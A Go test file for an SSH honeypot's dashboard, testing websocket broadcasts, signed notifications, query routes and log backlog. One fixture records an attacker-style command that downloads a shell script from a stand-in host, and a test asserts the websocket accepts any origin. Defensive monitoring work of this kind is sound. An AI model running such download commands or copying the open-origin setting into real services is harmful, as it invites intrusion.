package sshhoneypot

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"
)

type testDashboard struct {
	dashboard *Dashboard
	ledger    *Ledger
	server    *httptest.Server
}

func makeTestDashboard(t *testing.T, key string) *testDashboard {
	t.Helper()
	cfg := makeTestConfig(t)
	cfg.NotifyKey = key
	ledger := setupTestLedger(t)
	dashboard := NewDashboard(cfg, ledger, &testLogger{}, NewMetrics())
	server := httptest.NewServer(dashboard.Router())
	t.Cleanup(func() {
		dashboard.Hub().Close()
		server.Close()
	})
	return &testDashboard{dashboard: dashboard, ledger: ledger, server: server}
}

func (test *testDashboard) dialSocket(t *testing.T) *websocket.Conn {
	t.Helper()
	before := test.dashboard.Hub().ClientCount()
	connectURL := url.URL{Scheme: "ws", Host: strings.TrimPrefix(test.server.URL, "http://"), Path: "/socket"}
	conn, _, err := websocket.DefaultDialer.Dial(connectURL.String(), nil)
	if err != nil {
		t.Fatalf("Failed to connect to websocket: %s", err)
	}
	t.Cleanup(func() { conn.Close() })
	waitFor(t, 2*time.Second, "the hub to register the client", func() bool {
		return test.dashboard.Hub().ClientCount() > before
	})
	return conn
}

type wireEvent struct {
	Event string          `json:"event"`
	Data  json.RawMessage `json:"data"`
}

func readEvent(t *testing.T, conn *websocket.Conn) wireEvent {
	t.Helper()
	conn.SetReadDeadline(time.Now().Add(3 * time.Second))
	_, message, err := conn.ReadMessage()
	if err != nil {
		t.Fatalf("Error during message reading: %s", err)
	}
	var event wireEvent
	if err := json.Unmarshal(message, &event); err != nil {
		t.Fatalf("push event %s is not json: %v", message, err)
	}
	return event
}

func TestDashboardNotifyStatusBroadcasts(t *testing.T) {
	test := makeTestDashboard(t, "")
	conn := test.dialSocket(t)

	body := `{"ip":"10.0.0.5","online":true}`
	resp, err := http.Post(test.server.URL+NOTIFY_STATUS_PATH, "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatalf("POST notify_status failed: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST notify_status returned %v", resp.Status)
	}

	event := readEvent(t, conn)
	if event.Event != EVENT_STATUS_UPDATE {
		t.Fatalf("client received %v; wanted %v", event.Event, EVENT_STATUS_UPDATE)
	}
	var status StatusEvent
	json.Unmarshal(event.Data, &status)
	if status.IP != "10.0.0.5" || !status.Online {
		t.Errorf("status_update carried %+v", status)
	}
}

func TestDashboardNotifyStatusRequiresSignature(t *testing.T) {
	test := makeTestDashboard(t, "shared")

	resp, _ := http.Post(test.server.URL+NOTIFY_STATUS_PATH, "application/json", strings.NewReader(`{"ip":"10.0.0.5","online":true}`))
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("unsigned notification returned %v; wanted 401", resp.Status)
	}

	signed, _ := signMessage(StatusNotification{IP: "10.0.0.5", Online: false}, []byte("shared"))
	data, _ := json.Marshal(signed)
	resp, _ = http.Post(test.server.URL+NOTIFY_STATUS_PATH, "application/json", bytes.NewReader(data))
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("signed notification returned %v; wanted 200", resp.Status)
	}
}

func TestDashboardNotifierEndToEnd(t *testing.T) {
	test := makeTestDashboard(t, "shared")
	conn := test.dialSocket(t)

	notifier := NewNotifier(test.server.URL, "shared", time.Second, &testLogger{})
	notifier.NotifyStatus(context.Background(), "10.0.0.9", false)

	event := readEvent(t, conn)
	var status StatusEvent
	json.Unmarshal(event.Data, &status)
	if event.Event != EVENT_STATUS_UPDATE || status.IP != "10.0.0.9" || status.Online {
		t.Errorf("client received %v %+v", event.Event, status)
	}
}

func TestDashboardNotifyStatusRejectsMissingIP(t *testing.T) {
	test := makeTestDashboard(t, "")
	resp, _ := http.Post(test.server.URL+NOTIFY_STATUS_PATH, "application/json", strings.NewReader(`{"online":true}`))
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("notification without ip returned %v; wanted 400", resp.Status)
	}
}

func TestDashboardActiveCountBroadcast(t *testing.T) {
	test := makeTestDashboard(t, "")
	conn := test.dialSocket(t)
	test.ledger.CreateConnection(context.Background(), "10.0.0.5", "a", time.Now())
	test.ledger.CreateConnection(context.Background(), "10.0.0.6", "b", time.Now())

	test.dashboard.broadcastActiveCount(context.Background())

	event := readEvent(t, conn)
	var count ActiveConnectionsEvent
	json.Unmarshal(event.Data, &count)
	if event.Event != EVENT_ACTIVE_CONNECTIONS || count.Count != 2 {
		t.Errorf("client received %v %+v; wanted an active count of 2", event.Event, count)
	}
}

func getJSON(t *testing.T, target string, out interface{}) int {
	t.Helper()
	resp, err := http.Get(target)
	if err != nil {
		t.Fatalf("GET %v failed: %v", target, err)
	}
	defer resp.Body.Close()
	if out != nil && resp.StatusCode == http.StatusOK {
		if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
			t.Fatalf("GET %v returned invalid json: %v", target, err)
		}
	}
	return resp.StatusCode
}

func TestDashboardQueryRoutes(t *testing.T) {
	test := makeTestDashboard(t, "")
	ctx := context.Background()
	conn, _ := test.ledger.CreateConnection(ctx, "10.0.0.5", "a", time.Now())
	test.ledger.AddCommand(ctx, conn.ID, "ls")
	test.ledger.RecordLoginAttempt(ctx, "10.0.0.5", "root", "x", true)
	test.ledger.RecordLoginAttempt(ctx, "10.0.0.5", "pi", "y", false)

	var connections []ConnectionView
	if code := getJSON(t, test.server.URL+"/connections", &connections); code != http.StatusOK || len(connections) != 1 {
		t.Errorf("/connections returned %v with %v rows", code, len(connections))
	}
	var commands []CommandView
	if code := getJSON(t, test.server.URL+"/commands", &commands); code != http.StatusOK || len(commands) != 1 || commands[0].Command != "ls" {
		t.Errorf("/commands returned %v with %+v", code, commands)
	}
	var attempts []LoginAttempt
	if code := getJSON(t, test.server.URL+"/login_attempts?status=failed", &attempts); code != http.StatusOK || len(attempts) != 1 || attempts[0].Username != "pi" {
		t.Errorf("/login_attempts?status=failed returned %v with %+v", code, attempts)
	}
	var buckets []TimeBucket
	if code := getJSON(t, test.server.URL+"/connections_over_time?group_by=hour", &buckets); code != http.StatusOK || len(buckets) != 1 || buckets[0].Count != 1 {
		t.Errorf("/connections_over_time returned %v with %+v", code, buckets)
	}

	for _, bad := range []string{"/connections?limit=-1", "/login_attempts?status=maybe", "/login_attempts?sort=sideways", "/connections_over_time?group_by=week"} {
		if code := getJSON(t, test.server.URL+bad, nil); code != http.StatusBadRequest {
			t.Errorf("GET %v returned %v; wanted 400", bad, code)
		}
	}
}

func TestDashboardMetricsRoute(t *testing.T) {
	test := makeTestDashboard(t, "")
	test.dialSocket(t)
	resp, err := http.Get(test.server.URL + "/metrics")
	if err != nil {
		t.Fatalf("GET /metrics failed: %v", err)
	}
	defer resp.Body.Close()
	var body bytes.Buffer
	body.ReadFrom(resp.Body)
	if !strings.Contains(body.String(), "dashboard_clients") {
		t.Errorf("/metrics did not expose the dashboard client gauge")
	}
}

func TestDashboardCommandUsageRoute(t *testing.T) {
	test := makeTestDashboard(t, "")
	ctx := context.Background()
	conn, _ := test.ledger.CreateConnection(ctx, "10.0.0.5", "a", time.Now())
	test.ledger.AddCommand(ctx, conn.ID, "wget http://x/y.sh")
	test.ledger.AddCommand(ctx, conn.ID, "wget http://x/y.sh")
	test.ledger.AddCommand(ctx, conn.ID, "ls")

	var usage []CommandUsage
	if code := getJSON(t, test.server.URL+"/command_usage", &usage); code != http.StatusOK {
		t.Fatalf("/command_usage returned %v", code)
	}
	if len(usage) != 2 || usage[0].Command != "wget http://x/y.sh" || usage[0].Count != 2 {
		t.Errorf("/command_usage returned %+v", usage)
	}
	if code := getJSON(t, test.server.URL+"/command_usage?limit=zero", nil); code != http.StatusBadRequest {
		t.Errorf("/command_usage with a bad limit returned %v; wanted 400", code)
	}
}

func TestDashboardLiveBacklog(t *testing.T) {
	test := makeTestDashboard(t, "")
	var lines []string
	if code := getJSON(t, test.server.URL+"/live", &lines); code != http.StatusOK || len(lines) != 0 {
		t.Errorf("/live without a server log returned %v with %v", code, lines)
	}

	var log strings.Builder
	for i := 0; i < LIVE_BACKLOG_LINES+10; i++ {
		fmt.Fprintf(&log, "2024/01/01 00:00:00 session.go:1: line %d\n", i)
	}
	if err := os.WriteFile(test.dashboard.cfg.ServerLog, []byte(log.String()), 0o600); err != nil {
		t.Fatalf("write server log: %v", err)
	}
	lines = nil
	if code := getJSON(t, test.server.URL+"/live", &lines); code != http.StatusOK {
		t.Fatalf("/live returned %v", code)
	}
	if len(lines) != LIVE_BACKLOG_LINES {
		t.Fatalf("/live returned %v lines; wanted %v", len(lines), LIVE_BACKLOG_LINES)
	}
	if !strings.HasSuffix(lines[0], "line 10") || !strings.HasSuffix(lines[len(lines)-1], "line 59") {
		t.Errorf("/live returned %q .. %q; wanted the last lines of the log", lines[0], lines[len(lines)-1])
	}
}

func TestDashboardSocketAcceptsAnyOriginQuietly(t *testing.T) {
	test := makeTestDashboard(t, "")
	connectURL := url.URL{Scheme: "ws", Host: strings.TrimPrefix(test.server.URL, "http://"), Path: "/socket"}
	header := http.Header{"Origin": []string{"http://elsewhere.example"}}
	conn, _, err := websocket.DefaultDialer.Dial(connectURL.String(), header)
	if err != nil {
		t.Fatalf("websocket from another origin was refused: %v", err)
	}
	defer conn.Close()
	if test.dashboard.log.(*testLogger).contains("elsewhere.example") {
		t.Errorf("upgrade logged the request origin")
	}
}
